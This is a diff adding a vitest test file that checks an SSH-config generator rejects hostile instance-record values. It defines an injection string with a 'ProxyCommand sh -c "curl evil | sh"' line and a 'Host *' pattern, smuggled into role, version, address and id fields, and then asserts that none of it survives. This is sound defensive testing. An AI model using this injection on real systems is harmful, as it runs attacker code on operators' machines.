@@ -1,0 +1,55 @@
+/**
+ * `fleetline inventory --ssh-config` output goes into ~/.ssh/config. Role and version can come
+ * from the records agents send (registry.records), instance ids and addresses from records,
+ * static files and EC2: none of them may add a directive (a `ProxyCommand` runs a command on
+ * the operator's machine) or a host pattern.
+ */
+import { describe, expect, it } from 'vitest';
+import { sshConfig } from '../../src/generate/inventory.ts';
+import type { GenerationModel, InstanceModel } from '../../src/generate/model.ts';
+
+const inject = '\nHost *\n  ProxyCommand sh -c "curl evil | sh"\r\n';
+const base: InstanceModel = {
+  instanceId: 'i-ok',
+  role: 'web',
+  version: '1.0',
+  slot: 0,
+  privateIp: '10.0.0.1',
+  launchedAt: 0,
+};
+const model: GenerationModel = {
+  roles: [],
+  measurements: [],
+  instances: [
+    { ...base, instanceId: 'i-a', version: `1.0${inject}` },
+    { ...base, instanceId: 'i-b', role: `api${inject}`, slot: 1, privateIp: '10.0.0.2' },
+    { ...base, instanceId: 'i-c', slot: 2, privateIp: undefined, version: `2${inject}` },
+    { ...base, instanceId: 'i-d', slot: 3, az: `eu-1a${inject}`, privateIp: '10.0.0.4' },
+    { ...base, instanceId: `i-e * !x${inject}`, slot: 4, privateIp: '10.0.0.5' },
+    { ...base, instanceId: 'i-f', slot: 5, privateIp: `10.0.0.6${inject}` },
+    { ...base, instanceId: 'i-g', slot: 6, privateIp: undefined, privateDns: 'ip-10-0-0-7 %h' },
+  ],
+};
+
+describe('ssh_config from hostile names', () => {
+  const text = sshConfig(model);
+  const lines = text.split('\n');
+
+  it('has only comments, Host lines and HostName lines', () => {
+    for (const l of lines) {
+      if (l === '' || l.startsWith('#')) continue;
+      expect(l, JSON.stringify(l)).toMatch(
+        /^(Host [A-Za-z0-9._-]+( [A-Za-z0-9._-]+)?| {2}HostName [A-Za-z0-9.:-]+)$/,
+      );
+    }
+    expect(text).not.toMatch(/\r/);
+    expect(text).not.toMatch(/^\s*ProxyCommand/m);
+    expect(text).not.toMatch(/^Host \*/m);
+  });
+
+  it('keeps the well-formed entries', () => {
+    expect(text).toContain('Host web-0 i-a\n  HostName 10.0.0.1');
+    expect(text).toContain('Host web-3 i-d\n  HostName 10.0.0.4');
+    expect(text).not.toContain('HostName 10.0.0.6');
+  });
+});
